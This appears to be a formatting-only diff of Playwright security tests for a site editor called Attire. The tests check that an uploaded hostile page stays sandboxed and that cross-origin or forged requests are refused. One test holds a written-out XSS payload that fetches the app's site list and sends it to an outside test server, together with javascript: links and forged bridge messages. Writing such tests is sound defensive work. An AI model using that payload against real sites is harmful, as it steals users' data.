@@ -16,7 +16,11 @@ test.beforeAll(async () => {
 })
 test.afterAll(() => void outside.close())
 
-test('a hostile page reaches neither Attire’s data nor its routes nor anything outside', async ({ page, request, baseURL }) => {
+test('a hostile page reaches neither Attire’s data nor its routes nor anything outside', async ({
+  page,
+  request,
+  baseURL,
+}) => {
   visits = []
   const victim = await bringIn(request, 'Victim', { 'index.html': bytes('<p>secret') })
   const steal = `fetch('/api/sites').then(r=>r.text()).then(t=>{document.title='stolen';new Image().src='${outsideAddress}/stolen?'+t});parent.document.title='stolen';top.location='${outsideAddress}/top';parent.postMessage({attire:1,message:{type:'follow',href:'javascript:alert(1)'}},'*')`
@@ -34,7 +38,10 @@ test('a hostile page reaches neither Attire’s data nor its routes nor anything
     <form id="out" action="${outsideAddress}/form"><button id="leave">leave</button></form>
     <a id="script" href="javascript:${steal.replace(/"/g, '&quot;')}">js</a> <a id="blank" target="_blank" href="${outsideAddress}/blank">blank</a> <a id="top" target="_top" href="${outsideAddress}/toplink">top</a>
     </body></html>`
-  const site = await bringIn(request, 'Hostile', { 'index.html': bytes(hostile), 'site.css': bytes('p { color: red }') })
+  const site = await bringIn(request, 'Hostile', {
+    'index.html': bytes(hostile),
+    'site.css': bytes('p { color: red }'),
+  })
   const messages: string[] = []
   page.on('dialog', (dialog) => void (messages.push(dialog.message()), dialog.dismiss()))
   const calls: string[] = []
@@ -56,14 +63,25 @@ test('a hostile page reaches neither Attire’s data nor its routes nor anything
   expect(page.context().pages()).toHaveLength(1)
   expect(await page.title()).toBe('Attire')
   const frame = pageFrames(page).at(-1)!
-  expect(await frame.evaluate(() => [self.origin, document.title, getComputedStyle(document.querySelector('#mark')!).color])).toEqual(['null', '', 'rgb(255, 0, 0)'])
+  expect(
+    await frame.evaluate(() => [self.origin, document.title, getComputedStyle(document.querySelector('#mark')!).color]),
+  ).toEqual(['null', '', 'rgb(255, 0, 0)'])
   // Even code that did run there would be refused by the routes themselves.
   const tried = await frame.evaluate(async (address) => {
-    const outcome = async (work: Promise<unknown>) => work.then(() => 'reached', () => 'refused')
-    return [await outcome(fetch(`${address}/api/sites`)), await outcome(fetch(`${address}/api/import?name=x`, { method: 'POST', mode: 'no-cors', body: 'x' }))]
+    const outcome = async (work: Promise<unknown>) =>
+      work.then(
+        () => 'reached',
+        () => 'refused',
+      )
+    return [
+      await outcome(fetch(`${address}/api/sites`)),
+      await outcome(fetch(`${address}/api/import?name=x`, { method: 'POST', mode: 'no-cors', body: 'x' })),
+    ]
   }, baseURL!)
   expect(tried).toEqual(['refused', 'refused'])
-  const names = (await (await request.get('/api/sites')).json() as { sites: { name: string }[] }).sites.map(({ name }) => name)
+  const names = ((await (await request.get('/api/sites')).json()) as { sites: { name: string }[] }).sites.map(
+    ({ name }) => name,
+  )
   expect(names).not.toContain('forged')
   expect((await stored(request, victim)).texts['index.html']).toBe('<p>secret')
 })
@@ -72,21 +90,45 @@ test('a frame cannot pass itself off as the bridge with messages of another shap
   const site = await bringIn(request, 'Messages', { 'index.html': bytes('<p>x'), 'site.css': bytes('') })
   await openSite(page, site)
   await pageFrames(page)[0]!.evaluate(() => {
-    for (const message of [null, 'x', { attire: 1 }, { attire: 1, message: { type: 'save' } }, { attire: 1, message: { type: 'applied', seq: 'a' } }]) parent.postMessage(message, '*')
+    for (const message of [
+      null,
+      'x',
+      { attire: 1 },
+      { attire: 1, message: { type: 'save' } },
+      { attire: 1, message: { type: 'applied', seq: 'a' } },
+    ])
+      parent.postMessage(message, '*')
   })
   await page.waitForTimeout(300)
   await expect(page.getByRole('heading', { name: '1 page' })).toBeVisible()
 })
 
-test('routes refuse foreign origins and hosts with one shape and a sentence', async ({ request, playwright, baseURL }) => {
+test('routes refuse foreign origins and hosts with one shape and a sentence', async ({
+  request,
+  playwright,
+  baseURL,
+}) => {
   const site = await bringIn(request, 'Guarded', { 'index.html': bytes('<p>x') })
   const cases = [
-    { method: 'POST', path: '/api/import?name=x', headers: { origin: 'http://evil.example', 'content-type': 'application/zip' } },
-    { method: 'POST', path: `/api/sites/${site}/save`, headers: { origin: 'null', 'content-type': 'application/json' } },
+    {
+      method: 'POST',
+      path: '/api/import?name=x',
+      headers: { origin: 'http://evil.example', 'content-type': 'application/zip' },
+    },
+    {
+      method: 'POST',
+      path: `/api/sites/${site}/save`,
+      headers: { origin: 'null', 'content-type': 'application/json' },
+    },
     { method: 'GET', path: `/api/sites/${site}`, headers: { 'sec-fetch-site': 'cross-site' } },
     { method: 'GET', path: '/api/sites', headers: { host: 'evil.example' } },
     { method: 'GET', path: '/', headers: { host: 'evil.example:4710' } },
-    { method: 'POST', path: `/api/sites/${site}/save`, headers: { 'content-type': 'application/json' }, data: '{"saveId":1}' },
+    {
+      method: 'POST',
+      path: `/api/sites/${site}/save`,
+      headers: { 'content-type': 'application/json' },
+      data: '{"saveId":1}',
+    },
     { method: 'POST', path: '/api/import?name=', headers: { 'content-type': 'application/zip' }, data: 'x' },
     { method: 'POST', path: '/api/import?name=x', headers: { 'content-type': 'application/zip' }, data: 'not a zip' },
     { method: 'GET', path: '/api/sites/none', headers: {} },
@@ -94,11 +136,17 @@ test('routes refuse foreign origins and hosts with one shape and a sentence', as
   const context = await playwright.request.newContext({ baseURL: baseURL! })
   const statuses = []
   for (const { method, path, headers, data } of cases) {
-    const answer = await context.fetch(path, { method, headers: headers as Record<string, string>, ...(data ? { data } : {}) })
-    const body = await answer.json() as { error: { code: string; message: string } }
+    const answer = await context.fetch(path, {
+      method,
+      headers: headers as Record<string, string>,
+      ...(data ? { data } : {}),
+    })
+    const body = (await answer.json()) as { error: { code: string; message: string } }
     expect(body.error.message, `${method} ${path}`).toMatch(/^[A-Z“].*\.$/)
     statuses.push(answer.status())
   }
   expect(statuses).toEqual([403, 403, 403, 421, 421, 400, 400, 422, 404])
-  expect((await request.get('/')).headers()['content-security-policy']).toMatch(/script-src 'self' 'nonce-[^']+' 'strict-dynamic'; style-src 'self' 'nonce-[^']+'/)
+  expect((await request.get('/')).headers()['content-security-policy']).toMatch(
+    /script-src 'self' 'nonce-[^']+' 'strict-dynamic'; style-src 'self' 'nonce-[^']+'/,
+  )
 })
